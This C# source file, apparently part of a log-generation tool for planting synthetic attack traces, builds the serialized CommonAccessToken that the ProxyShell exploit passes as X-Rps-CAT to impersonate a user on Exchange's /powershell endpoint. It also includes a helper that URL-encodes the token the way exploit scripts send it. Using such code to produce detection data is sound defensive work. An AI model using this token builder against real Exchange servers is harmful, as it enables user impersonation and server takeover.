using System.Text;

namespace Bulwark.LogGen.Plant;

/// <summary>
/// The serialized CommonAccessToken that ProxyShell passes as <c>X-Rps-CAT</c> to impersonate a user on
/// /powershell: version, logon type "Windows", auth "Kerberos", logon name, user SID, group SIDs.
/// Base64 of it begins <c>VgEAVAdXaW5kb3dz</c>.
/// </summary>
public static class CommonAccessToken
{
    public static string Build(string logonName, string userSid, params string[] groupSids)
    {
        using var bytes = new MemoryStream();
        bytes.Write("V\u0001\u0000"u8);
        Field(bytes, 'T', "Windows");
        bytes.Write("C\u0000"u8);
        Field(bytes, 'A', "Kerberos");
        Field(bytes, 'L', logonName);
        Field(bytes, 'U', userSid);
        bytes.WriteByte((byte)'G');
        bytes.Write(BitConverter.GetBytes(groupSids.Length));
        foreach (var sid in groupSids)
        {
            bytes.Write([7, 0, 0, 0]);
            Length(bytes, sid);
        }

        bytes.Write("E\u0000\u0000\u0000\u0000"u8);
        return Convert.ToBase64String(bytes.ToArray());
    }

    /// <summary>Base64 made safe for a query string, as exploit scripts send it.</summary>
    public static string UrlEncoded(string base64) =>
        base64.Replace("+", "%2B", StringComparison.Ordinal).Replace("/", "%2F", StringComparison.Ordinal).Replace("=", "%3D", StringComparison.Ordinal);

    private static void Field(Stream s, char tag, string value)
    {
        s.WriteByte((byte)tag);
        Length(s, value);
    }

    private static void Length(Stream s, string value)
    {
        s.WriteByte((byte)value.Length);
        s.Write(Encoding.ASCII.GetBytes(value));
    }
}
